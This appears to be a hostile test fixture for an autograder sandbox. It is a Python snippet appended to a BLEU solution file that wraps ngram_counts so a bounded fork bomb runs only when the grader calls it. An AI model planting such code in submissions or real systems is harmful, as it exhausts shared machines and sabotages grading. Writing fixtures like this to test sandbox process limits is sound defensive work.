# hostile: appended to solutions/bleu.py
# A17: a fork bomb (bounded: each process forks at most 50 times and then sleeps): it must hit the sandbox
# user's process limit, not exhaust the machine.
import json
import os
import sys
import time

# @@RUNTIME_NAMES@@


def _bomb() -> int:
    forked = 0
    for _ in range(500):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            for _ in range(50):
                try:
                    if os.fork() == 0:
                        break
                except OSError:
                    break
            time.sleep(600)
            os._exit(0)
        forked += 1
    return forked


_reference_ngram_counts = ngram_counts


def ngram_counts(tokens, n):
    if _caller_globals(1).get("__name__", "").startswith("autograder."):  # the grader's own call
        raise RuntimeError("PROBE" + json.dumps({"forked": _bomb()}))
    return _reference_ngram_counts(tokens, n)
